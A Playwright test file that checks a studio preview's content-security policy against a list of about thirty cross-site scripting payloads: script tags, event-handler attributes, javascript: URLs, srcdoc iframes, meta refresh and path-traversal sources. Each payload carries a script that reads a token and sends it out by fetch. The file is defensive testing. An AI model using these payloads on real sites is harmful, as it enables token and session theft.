/**
 * The preview is a frame of the studio's own origin, so that a script in it could read the token. Its
 * policy lets nothing run that its markup brings, whatever a block or a text makes of it.
 */
import { expect, test } from '@playwright/test'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import {
  createPreviewPolicy,
  createStudioPolicy,
  filePolicy,
} from '../../scripts/studio/server/content-policies.ts'

const token = 'SecretToken'

/** @param run what a script would do @param other another site */
const attacks: ((run: string, other: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<script type="module">${run}</script>`,
  () => '<script src="/evil.js"></script>',
  () => '<script src="/__studio/assets/../../evil.js"></script>',
  () => '<script src="/__studio/assets/%2e%2e/%2e%2e/evil.js"></script>',
  () => '<script src="/__studio/assets/..%2f..%2fevil.js"></script>',
  (_, other) => `<script src="${other}/evil.js"></script>`,
  (_, other) => `<base href="${other}/"><script src="evil.js"></script>`,
  (run) => `<script src="data:text/javascript,${encodeURIComponent(run)}"></script>`,
  (run) => `<img src="x:" onerror="${run}">`,
  (run) => `<svg onload="${run}"></svg>`,
  (run) => `<details open ontoggle="${run}"></details>`,
  (run) => `<input autofocus onfocus="${run}">`,
  (run) => `<video><source onerror="${run}"></video>`,
  (run) => `<a href="javascript:${run}">Press</a>`,
  (run) => `<svg><a href="javascript:${run}"><text y="20">Press</text></a></svg>`,
  (run) => `<form action="javascript:${run}"><button>Press</button></form>`,
  (run) => `<form><button formaction="javascript:${run}">Press</button></form>`,
  (run) => `<iframe srcdoc="<script>with(parent){${run}}</script>"></iframe>`,
  (run) => `<iframe src="javascript:with(parent){${run}}"></iframe>`,
  () => '<iframe src="/evil.html"></iframe>',
  () => '<object data="/evil.html"></object>',
  () => '<object type="text/html" data="/evil.html"></object>',
  () => '<embed src="/evil.svg">',
  (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  () => '<meta http-equiv="refresh" content="0;url=/evil.html">',
  (_, other) => `<meta http-equiv="refresh" content="0;url=${other}/evil.html">`,
  () =>
    '<link rel="modulepreload" href="/evil.js"><script type="module">import "/evil.js"</script>',
  () => '<script type="importmap">{"imports":{"/__studio/assets/a.js":"/evil.js"}}</script>',
]

/** How many leave their page, maybe before its picture is loaded. */
const leaving = 3

let server: Server
let origin: string
let ran: string[] = []
const shown = new Set<string>()

test.beforeAll(async () => {
  const listen = (
    request: import('node:http').IncomingMessage,
    response: import('node:http').ServerResponse,
  ) => {
    const { pathname, searchParams } = new URL(request.url!, 'http://localhost')
    const other = origin.replace('s0.', 'o0.')
    const send = (type: string, policy: string, text: string) =>
      response
        .writeHead(200, {
          'content-type': type,
          ...(searchParams.has('open') ? {} : { 'content-security-policy': policy }),
        })
        .end(text)
    const act = (id: string) =>
      `fetch('${origin}/ran/${id}/'+top.document.querySelector('meta').content)`
    if (pathname.startsWith('/ran/')) ran.push(pathname.slice('/ran/'.length))
    if (pathname.startsWith('/shown/')) shown.add(pathname)
    if (/^\/(?:ran|shown)\//.test(pathname)) return void response.end()
    if (pathname === '/__studio/') {
      const frames = attacks.map(
        (_, id) =>
          `<iframe src="/page?id=${id}${searchParams.has('open') ? '&open' : ''}"></iframe>`,
      )
      const html = `<!doctype html><meta name="studio-token" content="${token}">${frames.join('')}`
      return void send('text/html', createStudioPolicy(origin), html)
    }
    if (pathname === '/page') {
      const id = searchParams.get('id')!
      const html = `<!doctype html><title>Page</title>${attacks[Number(id)]!(act(id), other)}<img src="/shown/${id}">`
      return void send('text/html', createPreviewPolicy(origin), html)
    }
    const script = act(`file-${pathname.slice(1)}`)
    // As the studio does, which decodes no slashes.
    if (pathname.startsWith('/__studio/assets/')) return void response.writeHead(404).end()
    if (pathname.endsWith('.js')) return void send('text/javascript', filePolicy, script)
    if (pathname.endsWith('.svg'))
      return void send(
        'image/svg+xml',
        filePolicy,
        `<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`,
      )
    send('text/html', filePolicy, `<!doctype html><script>${script}</script>`)
  }
  server = createServer(listen)
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  origin = `http://s0.localhost:${(server.address() as AddressInfo).port}`
})
test.afterAll(() => {
  server.closeAllConnections()
  server.close()
})

/** Opens the studio, presses what there is to press, and lists what ran. */
async function openStudio(page: import('@playwright/test').Page, path: string): Promise<string[]> {
  ran = []
  shown.clear()
  await page.goto(origin + path, { waitUntil: 'commit' })
  // Each page ends with a picture.
  await expect.poll(() => shown.size).toBeGreaterThanOrEqual(attacks.length - leaving)
  for (const frame of page.frames().filter((each) => each.parentFrame() === page.mainFrame()))
    for (const target of await frame.getByText('Press').all())
      await target.dispatchEvent('click').catch(() => {})
  // What runs says so within the time that another request takes.
  await page.evaluate(() => fetch('/ran/end'))
  await expect.poll(() => ran).toContain('end')
  return ran.filter((each) => each !== 'end')
}

test('nothing that the markup of a page brings runs in the preview', async ({ page }) => {
  expect(await openStudio(page, '/__studio/')).toEqual([])
})

test('without the policy, scripts there would read the token', async ({ page }) => {
  const read = await openStudio(page, '/__studio/?open')
  for (const id of ['0', '1', '9', '10', '14', 'file-evil.js'])
    expect(read).toContain(`${id}/${token}`)
})
